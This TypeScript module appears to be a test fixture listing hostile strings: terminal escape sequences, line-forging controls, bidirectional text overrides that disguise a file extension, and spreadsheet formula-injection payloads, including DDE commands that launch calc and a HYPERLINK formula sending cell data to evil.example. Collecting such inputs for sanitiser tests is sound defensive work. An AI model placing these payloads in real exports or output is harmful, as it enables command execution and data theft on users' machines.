/** What a hostile page or corpus puts into titles, texts, addresses and names, by what it tries to do. */
export const hostileTexts: Readonly<Record<string, string>> = {
  'change colours': '\u001b[31mred',
  'set the title of the window': '\u001b]0;owned\u0007',
  'use an escape of eight bits': '\u009b31mred',
  'write over its own line': 'harmless\rforged',
  'erase the text before it': 'visible\b\b\b\b\b\b\bforged',
  'start a new line': 'one\nforged: all is well',
  'end a line as other systems do': 'one\u0085two\u2028three\u2029four\vfive\fsix',
  'reverse the text direction': 'picture\u202egnp.exe',
  'hide directions in isolates': '\u2066one\u2067two\u2068three\u2069',
  'mark directions': 'a\u200eb\u200fc\u061cd\u202ae\u202bf\u202cg\u202dh',
};

/** All of them in one. */
export const hostileText = Object.values(hostileTexts).join(' ');

/** What must not reach a terminal; line breaks are allowed only at the end of a line. */
export const unprintable = /[^\P{Cc}\n]|[\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/u;

/** Texts that a spreadsheet would take for formulas. */
export const formulas: readonly string[] = [
  '=cmd|calc!A1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\u00a0@SUM(A1)',
];
